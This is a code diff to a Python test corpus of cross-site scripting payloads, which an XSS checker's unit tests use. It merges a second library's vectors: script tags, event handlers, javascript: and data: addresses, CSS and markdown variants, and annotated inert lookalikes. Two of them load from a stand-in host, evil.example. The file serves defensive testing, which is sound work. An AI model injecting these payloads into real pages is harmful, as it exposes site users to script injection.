@@ -10,6 +10,9 @@ style attributes and elements, meta refresh, base, and SVG/MathML islands.
 ``Payload.active_raw`` says the payload is active markup when pasted into a page
 unescaped; the checker's own tests (tests/unit/test_xss_checker.py) use it to show the
 checker would catch each of them, so a clean page means something.
+
+This is the project's one corpus: lib-mod's and lib-social's were merged here (payloads
+that differed only in ``alert(1)`` against ``window.__xss=1`` kept once).
 """
 
 from __future__ import annotations
@@ -30,7 +33,7 @@ def _group(category: str, active_raw: bool, *texts: str) -> list[Payload]:
     return [Payload(category, text, active_raw) for text in texts]
 
 
-CORPUS: tuple[Payload, ...] = [
+CORPUS: tuple[Payload, ...] = (
     *_group(
         "script",
         True,
@@ -225,7 +228,78 @@ CORPUS: tuple[Payload, ...] = [
         "`<script>alert(1)</script>`",
         "```html\n<script>alert(1)</script>\n```",
     ),
-]
+    # Vectors lib-social's corpus brought (merged here: one corpus, one checker).
+    *_group(
+        "script",
+        True,
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<scRipt>window.__xss=1</scRipt>",
+        "<<script>window.__xss=1//<</script>",
+        "[a](https://ok.example)<script>window.__xss=1</script>",
+    ),
+    *_group(
+        "event handler",
+        True,
+        "<image src=x onerror=window.__xss=1>",
+        '<input autofocus onfocus="window.__xss=1">',
+        "<keygen autofocus onfocus=window.__xss=1>",
+        '<a href="https://ok.example" onclick="window.__xss=1">ok</a>',
+        "<x onclick=window.__xss=1>custom</x>",
+        "<img\x0bsrc=x\x0conerror=window.__xss=1>",
+        "'><img src=x onerror=window.__xss=1>",
+    ),
+    *_group(
+        "dangerous address",
+        True,
+        "<IMG SRC=javascript:window.__xss=1>",
+        "<iframe src=javascript:window.__xss=1></iframe>",
+        '<a href="data:image/svg+xml,<svg onload=window.__xss=1>">x</a>',
+        "<isindex action=javascript:window.__xss=1 type=image>",
+        "<table background=javascript:window.__xss=1>",
+        "<base href=javascript:window.__xss=1//>",
+    ),
+    *_group(
+        "css",
+        True,
+        "<style>@import 'javascript:window.__xss=1';</style>",
+        "<style>*{background:url(//evil.example)}</style>",
+    ),
+    *_group(
+        "inert lookalike",
+        False,
+        # Backticks are not quotes in HTML: the address starts with "`", no scheme.
+        "<img src=`javascript:window.__xss=1`>",
+        '<p title="</p><script>window.__xss=1</script>">x</p>',
+        "<!--<script>window.__xss=1</script>-->",
+        "<![CDATA[<script>window.__xss=1</script>]]>",
+        # NUL makes the tag name "script\ufffd": an unknown element, not a script.
+        "<script\x00>window.__xss=1</script>",
+        "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
+    ),
+    *_group(
+        "markdown",
+        False,
+        '![x](https://ok.example/x.png "x\\" onerror=\\"window.__xss=1")',
+        "[click](vbscript:window.__xss=1)",
+        "[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+        "[![x](https://ok.example/x.png)](javascript:window.__xss=1)",
+        '<https://ok.example/" onmouseover="window.__xss=1>',
+    ),
+    *_group(
+        "markdown with markup",
+        True,
+        "- <svg onload=window.__xss=1>",
+        "**<img src=x onerror=window.__xss=1>**",
+    ),
+    *_group(
+        "in running text",
+        True,
+        "Before <script>window.__xss=1</script> after",
+        "Before <img src=x onerror=window.__xss=1> after",
+        'Before <a href="javascript:window.__xss=1">x</a> after',
+        "Before <svg onload=window.__xss=1> after",
+    ),
+)
 
 # The only frames a library page may hold: sandboxed players of allow-listed providers.
 VIDEO_EMBED = re.compile(
